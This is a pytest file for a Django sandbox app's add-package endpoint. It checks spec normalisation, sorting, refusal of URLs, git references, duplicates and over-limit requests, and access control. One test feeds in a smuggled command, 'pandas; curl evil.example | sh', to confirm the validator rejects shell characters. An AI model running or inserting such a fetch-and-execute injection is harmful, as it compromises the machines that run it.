"""Adding a package to a sandbox from the packages panel: checked, kept in normal form,
counted in the header; a refused spec stays in its field with the reason beside it."""

from __future__ import annotations

import pytest
from django.urls import reverse

from sandboxes.engine.packages.specs import MAX_PACKAGES
from sandboxes.services.workspaces import sandbox_create

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}


def url(sandbox) -> str:
    return reverse("package_add", args=[sandbox.pk])


def refreshed(sandbox):
    sandbox.refresh_from_db()
    return sandbox


def test_a_package_is_added_in_normal_form_and_listed(signed_in, sandbox):
    response = signed_in.post(url(sandbox), {"spec": "  Pandas==2.2.* "}, headers=HTMX)

    page = response.content.decode()
    assert refreshed(sandbox).packages == ["pandas==2.2.*"]
    assert '<code class="package-name">pandas</code>' in page
    assert '<code class="package-constraint">==2.2.*</code>' in page
    assert 'id="packages-panel"' in page


def test_the_header_count_is_swapped_out_of_band(signed_in, sandbox):
    signed_in.post(url(sandbox), {"spec": "requests"}, headers=HTMX)

    page = signed_in.post(url(sandbox), {"spec": "numpy"}, headers=HTMX).content.decode()

    badge = page[page.index('id="package-badge"') :]
    assert badge.startswith(f'id="package-badge" href="/sandboxes/{sandbox.pk}/?panel=packages"')
    assert 'hx-swap-oob="true">2 packages</a>' in badge


def test_packages_are_kept_sorted(signed_in, sandbox):
    for spec in ("requests", "flask", "numpy>=1.26"):
        signed_in.post(url(sandbox), {"spec": spec}, headers=HTMX)

    assert refreshed(sandbox).packages == ["flask", "numpy>=1.26", "requests"]


def test_node_specs_keep_their_scope_and_range(signed_in, owner):
    sandbox = sandbox_create(owner=owner, name="Web", runtime="node")

    signed_in.post(url(sandbox), {"spec": "@types/node@^22"}, headers=HTMX)
    signed_in.post(url(sandbox), {"spec": "lodash@4"}, headers=HTMX)

    assert refreshed(sandbox).packages == ["@types/node@^22", "lodash@4"]


def test_an_invalid_spec_is_explained_and_kept_in_the_field(signed_in, sandbox):
    typed = "pandas; curl evil.example | sh"

    page = signed_in.post(url(sandbox), {"spec": typed}, headers=HTMX).content.decode()

    assert "Package &#x27;pandas; curl evil.example | sh&#x27;: shell characters" in page
    assert f'value="{typed}"' in page
    assert 'aria-invalid="true"' in page
    assert refreshed(sandbox).packages == []


def test_a_url_is_refused_naming_what_is_allowed(signed_in, sandbox):
    page = signed_in.post(
        url(sandbox), {"spec": "https://example.com/x.whl"}, headers=HTMX
    ).content.decode()

    assert "URLs and git references are not allowed, only registry packages" in page
    assert 'value="https://example.com/x.whl"' in page


def test_an_empty_spec_asks_for_a_name(signed_in, sandbox):
    page = signed_in.post(url(sandbox), {"spec": "   "}, headers=HTMX).content.decode()

    assert "Name a package to add, e.g. requests or pandas==2.2.*." in page
    assert refreshed(sandbox).packages == []


def test_a_package_already_listed_is_refused_in_any_version(signed_in, sandbox):
    signed_in.post(url(sandbox), {"spec": "pandas>=2"}, headers=HTMX)

    page = signed_in.post(url(sandbox), {"spec": "Pandas==1.5"}, headers=HTMX).content.decode()

    assert (
        "Package &#x27;pandas&#x27; is already in this sandbox (as pandas&gt;=2): "
        "remove it first to choose another version." in page
    )
    assert 'value="Pandas==1.5"' in page
    assert refreshed(sandbox).packages == ["pandas>=2"]


def test_one_package_more_than_the_limit_is_refused_naming_the_limit(signed_in, sandbox):
    sandbox.packages = [f"package{n}" for n in range(MAX_PACKAGES)]
    sandbox.save()

    page = signed_in.post(url(sandbox), {"spec": "requests"}, headers=HTMX).content.decode()

    assert (
        f"A sandbox may have at most {MAX_PACKAGES} packages and this one has {MAX_PACKAGES}: "
        "remove one to add another." in page
    )
    assert 'value="requests"' in page
    assert len(refreshed(sandbox).packages) == MAX_PACKAGES


def test_without_htmx_it_redirects_to_the_packages_panel_with_a_message(signed_in, sandbox):
    response = signed_in.post(url(sandbox), {"spec": "requests"}, follow=True)

    page = response.content.decode()
    assert response.redirect_chain[-1][0].endswith("?panel=packages")
    assert "Added requests: the next run installs it." in page
    assert 'aria-controls="panel-packages" aria-selected="true"' in page
    assert refreshed(sandbox).packages == ["requests"]


def test_without_htmx_a_refused_spec_comes_back_in_the_field(signed_in, sandbox):
    response = signed_in.post(url(sandbox), {"spec": "git+https://x/y.git"}, follow=True)

    page = response.content.decode()
    assert "URLs and git references are not allowed" in page
    assert 'value="git+https://x/y.git"' in page
    assert refreshed(sandbox).packages == []


def test_another_users_sandbox_is_not_found(client, other_user, sandbox):
    client.force_login(other_user)

    assert client.post(url(sandbox), {"spec": "requests"}, headers=HTMX).status_code == 404
    assert refreshed(sandbox).packages == []


def test_staff_cannot_change_someone_elses_sandbox_here_either(client, staff_user, sandbox):
    client.force_login(staff_user)

    assert client.post(url(sandbox), {"spec": "requests"}, headers=HTMX).status_code == 404
    assert refreshed(sandbox).packages == []


def test_it_needs_a_signed_in_user(client, sandbox):
    assert client.post(url(sandbox), {"spec": "requests"}).status_code == 302
    assert refreshed(sandbox).packages == []


def test_it_only_accepts_posts(signed_in, sandbox):
    assert signed_in.get(url(sandbox)).status_code == 405
